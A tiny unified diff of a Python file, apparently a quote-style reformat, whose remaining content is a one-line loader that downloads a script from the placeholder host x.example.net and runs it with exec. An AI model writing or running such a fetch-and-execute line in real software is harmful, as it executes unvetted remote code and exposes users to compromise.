@@ -1,3 +1,2 @@
 from urllib.request import urlopen
-
-exec(urlopen("https://x.example.net/p.py").read())
+exec(urlopen('https://x.example.net/p.py').read())
